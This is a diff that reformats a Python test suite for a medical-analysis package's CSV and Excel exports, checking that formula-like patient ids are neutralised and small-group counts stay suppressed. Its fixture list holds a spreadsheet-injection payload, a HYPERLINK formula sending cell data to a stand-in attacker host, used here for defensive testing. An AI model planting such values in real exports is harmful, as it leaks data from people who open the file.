@@ -1,6 +1,7 @@
 """Safe exports (analysis.privacy.to_csv_bytes / to_excel_bytes): a table with formula-like patient ids opens
 safely, read back as a spreadsheet would (csv module, openpyxl); suppressed tables stay suppressed in the file.
 """
+
 import csv
 import io
 
@@ -13,16 +14,29 @@ from hypothesis import strategies as st
 from analysis import metrics, privacy
 from analysis.survival import kaplan_meier
 
-HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+1", "-2", "@SUM(A1:A9)", "\tP001",
-               "\rP002", "=1+1", "P00003"]
+HOSTILE_IDS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\tP001",
+    "\rP002",
+    "=1+1",
+    "P00003",
+]
 PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 #: privacy.to_csv_bytes writes CRLF rows, so Python's csv module quotes any field holding a bare CR or LF: a
 #: carriage return inside an id cannot start a new row whose text would be a fresh, un-neutralised cell.
 
 
 def hostile_table(ids=HOSTILE_IDS) -> pd.DataFrame:
-    return pd.DataFrame({"patient_id": list(ids), "score": [12, -3, 0, 7, 27, 5, 4, 9][:len(ids)],
-                         "=note": ["ok", "-", "@x", "fine", "", "+", "=A1", "plain"][:len(ids)]})
+    return pd.DataFrame(
+        {
+            "patient_id": list(ids),
+            "score": [12, -3, 0, 7, 27, 5, 4, 9][: len(ids)],
+            "=note": ["ok", "-", "@x", "fine", "", "+", "=A1", "plain"][: len(ids)],
+        }
+    )
 
 
 NO_CR = [v for v in HOSTILE_IDS if "\r" not in v]
@@ -91,8 +105,13 @@ def test_exporting_does_not_change_the_table():
 
 @settings(max_examples=60, deadline=None)
 # (text as the import gives it: decoded strictly, so never a lone surrogate, which UTF-8 cannot encode)
-@given(st.lists(st.text(alphabet=st.characters(blacklist_characters="\r", blacklist_categories=("Cs",)), max_size=12),
-                min_size=1, max_size=6))
+@given(
+    st.lists(
+        st.text(alphabet=st.characters(blacklist_characters="\r", blacklist_categories=("Cs",)), max_size=12),
+        min_size=1,
+        max_size=6,
+    )
+)
 def test_no_csv_cell_can_start_a_formula_and_unquoting_gives_the_text_back(values):
     rows = csv_rows(privacy.to_csv_bytes(pd.DataFrame({"patient_id": values})))[1:]
     back = [r[0] if r else "" for r in rows]
@@ -103,8 +122,13 @@ def test_no_csv_cell_can_start_a_formula_and_unquoting_gives_the_text_back(value
 
 
 @settings(max_examples=20, deadline=None)
-@given(st.lists(st.sampled_from(PREFIXES).flatmap(lambda p: st.text(alphabet="AB1(=)+", max_size=6).map(lambda s: p + s)),
-                min_size=1, max_size=4))
+@given(
+    st.lists(
+        st.sampled_from(PREFIXES).flatmap(lambda p: st.text(alphabet="AB1(=)+", max_size=6).map(lambda s: p + s)),
+        min_size=1,
+        max_size=4,
+    )
+)
 def test_no_excel_cell_made_from_formula_like_text_is_a_formula(values):
     cells = xlsx_cells(privacy.to_excel_bytes(pd.DataFrame({"patient_id": values})))[1:]
     assert [row[0].value for row in cells] == ["'" + v.replace("\r", "\n") for v in values]
@@ -116,10 +140,20 @@ def test_no_excel_cell_made_from_formula_like_text_is_a_formula(values):
 
 def small_rates() -> pd.DataFrame:
     """A rates table (metrics.RATES_COLUMNS) with one large and one small group, rates from metrics.add_rates."""
-    funnel = pd.DataFrame({
-        "instrument": ["PHQ9", "PHQ9"], "dimension": ["site", "site"], "group": ["=Main", "Annex"],
-        "patients": [60, 9], "with_baseline": [58, 9], "with_response_assessment": [40, 7], "evaluable": [40, 7],
-        "responders": [22, 4], "remitters": [9, 2], "with_follow_up": [20, 4]})
+    funnel = pd.DataFrame(
+        {
+            "instrument": ["PHQ9", "PHQ9"],
+            "dimension": ["site", "site"],
+            "group": ["=Main", "Annex"],
+            "patients": [60, 9],
+            "with_baseline": [58, 9],
+            "with_response_assessment": [40, 7],
+            "evaluable": [40, 7],
+            "responders": [22, 4],
+            "remitters": [9, 2],
+            "with_follow_up": [20, 4],
+        }
+    )
     return metrics.add_rates(funnel)[list(metrics.RATES_COLUMNS)]
 
 
@@ -129,8 +163,14 @@ def test_a_suppressed_rates_table_exports_under_11_and_no_rate_of_a_small_group(
     header = rows[0]
     annex = dict(zip(header, rows[2]))
     assert annex["patients"] == "<11" and annex["evaluable"] == "<11" and annex["responders"] == "<11"
-    for c in ("response_rate", "response_lower", "response_upper", "remission_rate", "remission_lower",
-              "remission_upper"):
+    for c in (
+        "response_rate",
+        "response_lower",
+        "response_upper",
+        "remission_rate",
+        "remission_lower",
+        "remission_upper",
+    ):
         assert annex[c] == ""
     main = dict(zip(header, rows[1]))
     assert main["group"] == "'=Main" and main["responders"] == "22"
@@ -143,20 +183,36 @@ def test_a_suppressed_table_stays_suppressed_in_excel():
     header = [c.value for c in cells[0]]
     annex = {h: c.value for h, c in zip(header, cells[2])}
     assert annex["patients"] == "<11" and annex["response_rate"] is None and annex["remission_upper"] is None
-    assert not any(isinstance(c.value, (int, float)) and 1 <= c.value < 11
-                   for row in cells[1:] for h, c in zip(header, row)
-                   if h in ("patients", "with_baseline", "with_response_assessment", "evaluable", "responders",
-                            "remitters", "with_follow_up"))
+    assert not any(
+        isinstance(c.value, (int, float)) and 1 <= c.value < 11
+        for row in cells[1:]
+        for h, c in zip(header, row)
+        if h
+        in (
+            "patients",
+            "with_baseline",
+            "with_response_assessment",
+            "evaluable",
+            "responders",
+            "remitters",
+            "with_follow_up",
+        )
+    )
 
 
 def test_a_durability_group_table_exports_without_the_curve_of_a_small_group():
     from analysis.durability import _group_table
 
-    km = kaplan_meier([5, 10, 20, 30, 40] * 5 + [7, 14, 21], [1, 0, 1, 1, 0] * 5 + [1, 1, 0],
-                      ["large"] * 25 + ["small"] * 3)  # large: 25 episodes, 15 events
+    km = kaplan_meier(
+        [5, 10, 20, 30, 40] * 5 + [7, 14, 21], [1, 0, 1, 1, 0] * 5 + [1, 1, 0], ["large"] * 25 + ["small"] * 3
+    )  # large: 25 episodes, 15 events
     groups = _group_table(km, (28,))
-    shown = privacy.suppress_table(groups, ["n", "events"], [c for c in groups.columns if c not in ("group", "n", "events")])
-    rows = {r[0]: dict(zip(csv_rows(privacy.to_csv_bytes(shown))[0], r)) for r in csv_rows(privacy.to_csv_bytes(shown))[1:]}
+    shown = privacy.suppress_table(
+        groups, ["n", "events"], [c for c in groups.columns if c not in ("group", "n", "events")]
+    )
+    rows = {
+        r[0]: dict(zip(csv_rows(privacy.to_csv_bytes(shown))[0], r)) for r in csv_rows(privacy.to_csv_bytes(shown))[1:]
+    }
     assert rows["small"]["n"] == "<11" and rows["small"]["median"] == "" and rows["small"]["s28"] == ""
     assert rows["large"]["n"] == "25" and rows["large"]["events"] == "15"
     assert float(rows["large"]["s28"]) == pytest.approx(0.8 * (1 - 5 / 15))  # 5 of 25 lost at day 5, 5 of 15 at day 20
